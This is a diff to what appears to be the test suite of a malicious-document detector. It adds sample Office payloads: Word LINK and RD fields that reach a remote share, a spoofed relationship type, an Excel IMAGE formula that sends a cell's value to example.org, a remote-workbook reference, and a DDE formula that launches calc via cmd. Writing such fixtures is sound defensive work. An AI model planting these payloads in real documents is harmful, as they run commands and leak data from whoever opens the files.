@@ -13,9 +13,10 @@ ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
 HTML = b"<!doctype html><script>fetch('https://example.org')</script>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
+WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 REL = '<Relationships xmlns="x"><Relationship Id="r" Type="{0}" Target="{1}" TargetMode="External"/></Relationships>'
 RELATION = '<Relationships xmlns="x"><Relationship Id="r" {0}/></Relationships>'
-FIELD = '<w:p xmlns:w="w">{0}</w:p>'
+FIELD = f'<w:p xmlns:w="{WORDS}">{{0}}</w:p>'
 SHEET = '<c xmlns="x">{0}</c>'
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 OPENS = b"<< /OpenAction 98 0 R >>\nendobj\n98 0 obj\n"
@@ -168,8 +169,12 @@ def words() -> Iterator[tuple[str, Hostile]]:
         "a field with a note in it": field("<w:instrText>DD<!-- x -->EAUTO x</w:instrText>"),
         "a field in raw letters": field("<w:instrText><![CDATA[DDE]]>AUTO x</w:instrText>"),
         "a field by another prefix": {
-            "word/header1.xml": '<q:p xmlns:q="w"><q:instrText>DDEAUTO x</q:instrText></q:p>'
+            "word/header1.xml": f'<q:p xmlns:q="{WORDS}"><q:instrText>DDEAUTO x</q:instrText></q:p>'
         },
+        "a field that links": field(r'<w:instrText>LINK Excel.Sheet.12 "\\\\example.org\\a.xlsx" "S"</w:instrText>'),
+        "a field that reads a document": field(r'<w:fldSimple w:instr="RD \\\\example.org\\s\\a.docx"/>'),
+        "two words of one name": {"word/_rels/settings.xml.rels": RELATION.format(
+            f'Type="{OFFICE}attachedTemplate" x:Type="{OFFICE}hyperlink" xmlns:x="x" Target="https://example.org"')},
         "a field in an attribute in numbers": field("<w:fldSimple w:instr='&#x44;DE x'/>"),
         "a remote template in numbers": {"word/_rels/settings.xml.rels": RELATION.format(
             f'Type="{OFFICE}attachedTemplate" Target="https://example.org/t.dotm" TargetMode="&#69;xternal"')},
@@ -219,6 +224,11 @@ def excels() -> Iterator[tuple[str, Hostile]]:
         "a name that fetches": {
             "xl/extra.xml": SHEET.format("<definedName name='a'>_xlfn.WEBSERVICE(&#34;x&#34;)</definedName>")
         },
+        "a formula that draws": {
+            "xl/x.xml": SHEET.format('<f>_xlfn.IMAGE("https://example.org?"&amp;A1)</f>')
+        },
+        "a formula of another workbook": {"xl/x.xml": SHEET.format(r"<f>'\\example.org\s\[a.xlsx]S'!A1</f>")},
+        "a formula that asks a program": {"xl/x.xml": SHEET.format("<f>cmd|'/c calc'!A0</f>")},
         "a formula that calls": {"xl/worksheets/sheet1.xml": SHEET.format('<f a="1">CALL("x","y")</f>')},
         "a control": {"xl/ctrlProps/ctrlProp1.xml": "<x/>"},
     }
